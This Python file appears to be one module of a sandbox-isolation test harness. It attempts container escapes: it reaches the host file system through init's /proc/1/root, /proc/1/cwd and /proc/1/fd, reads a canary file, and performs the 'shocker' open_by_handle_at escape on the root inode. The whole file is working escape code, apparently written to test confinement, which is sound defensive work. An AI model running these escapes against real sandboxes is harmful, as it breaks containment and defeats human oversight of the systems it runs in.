"""Reach the host's file system around the sandbox's mounts: through init's /proc/1/root,
/proc/1/cwd and /proc/1/fd (init opened the bind sources before the root was switched), and
with file handles (open_by_handle_at on the file system's root inode: the "shocker" escape)."""
import ctypes
import os
import struct

from attack import A, P, sys_call


def proc1_fds():
    out = {}
    for fd in os.listdir("/proc/1/fd"):
        path = "/proc/1/fd/" + fd
        target = os.readlink(path)
        out[fd] = target
        if os.path.isdir(path):
            out[fd + "/ls"] = os.listdir(path)[:20]
    return out


def shocker():
    # struct file_handle for ext4's root directory: inode 2, generation 0 (FILEID_INO32_GEN)
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)
    buf = ctypes.create_string_buffer(handle, len(handle))
    mfd = os.open("/", os.O_RDONLY)
    fd = sys_call("open_by_handle_at", mfd, buf, os.O_RDONLY)
    return os.listdir("/proc/self/fd/%d" % fd)


def name_to_handle():
    buf = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + b"\0" * 128)
    mnt = ctypes.c_int()
    sys_call("name_to_handle_at", -100, b"/", buf, ctypes.byref(mnt), 0)
    return buf.raw[:24].hex()


A.attempt("proc1_root", os.listdir, "/proc/1/root" + P["home"])
A.attempt("proc1_cwd", os.listdir, "/proc/1/cwd")
A.attempt("proc1_fds", proc1_fds)
A.attempt("proc1_canary", lambda: open("/proc/1/root" + P["canary"]).read())
A.attempt("name_to_handle_at", name_to_handle)
A.attempt("open_by_handle_at", shocker)
A.finish(reraise="proc1_root")
